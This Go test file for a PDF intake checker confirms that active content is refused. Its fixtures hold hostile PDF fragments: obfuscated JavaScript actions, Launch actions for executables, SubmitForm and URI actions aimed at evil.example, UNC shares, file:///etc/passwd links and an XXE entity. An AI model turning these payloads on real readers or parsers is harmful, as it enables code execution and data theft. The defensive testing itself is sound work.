package intake_test

import (
	"testing"

	"vigencia/intake"
)

func TestPDFRefusesActiveContent(t *testing.T) {
	link := func(action string) []byte {
		return paper("", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A"+action+">>]")
	}
	js := "<</S/JavaScript/JS(app.alert(1))>>"
	for name, c := range map[string]struct {
		bytes []byte
		found string
	}{
		"opens with JavaScript (kind 31)":     {paper("/OpenAction"+js, ""), "JavaScript"},
		"opens with it by reference (31)":     {paper("/OpenAction 5 0 R", "", js), "JavaScript"},
		"JavaScript by name (31)":             {paper("/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", "", "<</S/JavaScript/JS 6 0 R>>", stream("", "app.alert(1)")), "JavaScript"},
		"page opens it (kind 32)":             {paper("", "/AA<</O"+js+">>"), "JavaScript"},
		"catalog closes with it (32)":         {paper("/AA<</WC"+js+">>", ""), "JavaScript"},
		"a click runs it (32)":                {link(js), "JavaScript"},
		"a field runs it (32)":                {paper("/AcroForm<</Fields[5 0 R]>>", "", "<</FT/Tx/T(a)/AA<</K"+js+">>>>"), "JavaScript"},
		"after going to a page (32)":          {paper("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next"+js+">>", ""), "JavaScript"},
		"hex in the name (kind 33)":           {paper("/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>", ""), "JavaScript"},
		"in an object that nothing uses":      {paper("", "", js), "JavaScript"},
		"second of two equal keys":            {link("<</S/GoTo/D[3 0 R/Fit]/S/JavaScript/K(x)>>"), "JavaScript"},
		"in an earlier revision":              {revise(paper("", "", "<</S/Launch/F(a.exe)>>"), 5, "null"), "Launch"},
		"in an object stream":                 {packed("<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", "<</S/Java#53cript/JS(app.alert(1))>>"), "JavaScript"},
		"in an object stream apart":           {paper("", "", stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", deflate([]byte("9 0 <</S/Java#53cript>>")))), "JavaScript"},
		"Launch (kind 34)":                    {link("<</S/Launch/F(calc.exe)>>"), "Launch"},
		"GoToR to a share (kind 35)":          {link(`<</S/GoToR/F(\\\\evil\\share)/D[0/Fit]>>`), "GoToR"},
		"GoToE (kind 35)":                     {link("<</S/GoToE/T<</R/C>>/D(x)>>"), "GoToE"},
		"SubmitForm (kind 36)":                {link("<</S/SubmitForm/F(https://evil.example)>>"), "SubmitForm"},
		"ImportData (kind 36)":                {link("<</S/ImportData/F(a.fdf)>>"), "ImportData"},
		"opens an address (kind 37)":          {paper("/OpenAction<</S/URI/URI(https://evil.example)>>", ""), "URI"},
		"page opens an address (37)":          {paper("", "/AA<</O<</S/URI/URI(https://evil.example)>>>>"), "URI"},
		"click runs script address (37)":      {link("<</S/URI/URI(javascript:alert(1))>>"), "URI"},
		"click leads to a file (37)":          {link("<</S/URI/URI(file:///etc/passwd)>>"), "URI"},
		"click leads to a share (37)":         {link(`<</S/URI/URI(\\\\evil\\share)>>`), "URI"},
		"rich media (37)":                     {paper("", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"), "RichMedia"},
		"3D (37)":                             {paper("", "/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]>>]"), "RichMedia"},
		"film (37)":                           {paper("", "/Annots[<</Type/Annot/Subtype/Screen/A<</S/Rendition>>>>]"), "RichMedia"},
		"prints by itself":                    {paper("/OpenAction<</S/Named/N/Print>>", ""), "Action"},
		"XFA (kind 38)":                       {paper("/AcroForm<</Fields[]/XFA 5 0 R>>", "", stream("", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><xdp>&a;</xdp>")), "XFA"},
		"embedded file (kind 39)":             {paper("/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>", "", "<</Type/Filespec/F(eicar.com)/EF<</F 6 0 R>>>>", stream("/Type/EmbeddedFile", "EICAR")), "EmbeddedFile"},
		"attached to the page (39)":           {paper("", "/Annots[<</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>]", "<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", stream("", "MZ")), "EmbeddedFile"},
		"portfolio (39)":                      {paper("/Collection<</View/D>>", ""), "EmbeddedFile"},
		"contents from another file":          {paper("", "", stream("/F(\\\\\\\\evil\\\\share)", "")), "ExternalFile"},
		"action that nobody knows":            {paper("/OpenAction<</S/Unheard>>", ""), "Action"},
		"script hidden behind a wrong parent": {link("5 0 R"), ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := inspect(t, c.bytes)
			if c.found == "" {
				if err != nil {
					t.Fatalf("a click that leads nowhere was refused: %v", err)
				}
				return
			}
			wantRefusal(t, err, intake.ActiveContent, c.found)
		})
	}
}
